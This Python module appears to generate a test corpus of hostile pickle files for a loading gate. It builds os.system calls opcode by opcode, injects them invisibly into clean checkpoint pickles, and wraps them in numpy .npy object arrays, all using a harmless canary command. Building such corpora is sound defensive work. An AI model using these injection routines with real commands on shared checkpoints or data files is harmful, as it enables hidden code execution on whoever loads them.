"""Hostile pickle streams written opcode by opcode.

Every payload here calls ``os.system`` with :data:`CANARY_COMMAND`, which
would only create a marker file in the working directory. The corpus writes
these bytes and never unpickles them: unpickling is what the gate must
prevent, and the generator has no reason to test it.
"""

from __future__ import annotations

import struct

CANARY_COMMAND = "echo attestgate-corpus-canary > attestgate-canary.txt"

PROTO = b"\x80"
GLOBAL = b"c"
BINUNICODE = b"X"
TUPLE1 = b"\x85"
REDUCE = b"R"
POP = b"0"
STOP = b"."
EMPTY_DICT = b"}"


def _unicode(text: str) -> bytes:
    data = text.encode("utf-8")
    return BINUNICODE + struct.pack("<I", len(data)) + data


def call(module: str, name: str, argument: str) -> bytes:
    """Return the opcodes that import ``module.name`` and call it with one string.

    GLOBAL pushes the callable, TUPLE1 packs the argument, and REDUCE calls
    it; this is the shape of every classic pickle payload.
    """
    return GLOBAL + f"{module}\n{name}\n".encode() + _unicode(argument) + TUPLE1 + REDUCE


def system_payload(command: str = CANARY_COMMAND, *, protocol: int = 2) -> bytes:
    """Return a complete pickle whose only object is the result of ``os.system(command)``."""
    return PROTO + bytes([protocol]) + call("os", "system", command) + STOP


def inject(clean: bytes, command: str = CANARY_COMMAND) -> bytes:
    """Return ``clean`` with an ``os.system`` call run and discarded before its content.

    The call sits right after the PROTO opcode and its result is popped, so
    the pickle still returns the original object. The loader gets the
    expected checkpoint after the command has already run. A protocol 4 or
    5 FRAME opcode may follow; opcodes outside a frame are valid.
    """
    if not clean.startswith(PROTO) or len(clean) < 3:
        raise ValueError("the clean pickle has no PROTO opcode to inject after")
    return clean[:2] + call("os", "system", command) + POP + clean[2:]


def truncate_after_payload(clean: bytes, keep: int = 24) -> bytes:
    """Return an injected pickle cut ``keep`` bytes into the original content.

    The payload runs before the unpickler reaches the cut, so a loader that
    fails on the truncated stream has already run the command.
    """
    injected = inject(clean)
    payload_end = len(injected) - len(clean) + 2
    return injected[: payload_end + keep]


def npy_object_array(payload: bytes) -> bytes:
    """Return a version 1.0 ``.npy`` file of object dtype whose data is ``payload``.

    numpy stores object arrays as a pickle after the header, and
    ``numpy.load(..., allow_pickle=True)`` unpickles it.
    """
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    # The preamble (magic, version, length) is 10 bytes; the header ends in a
    # newline and the whole is padded to a multiple of 64 bytes.
    padding = -(10 + len(header) + 1) % 64
    text = (header + " " * padding + "\n").encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + payload
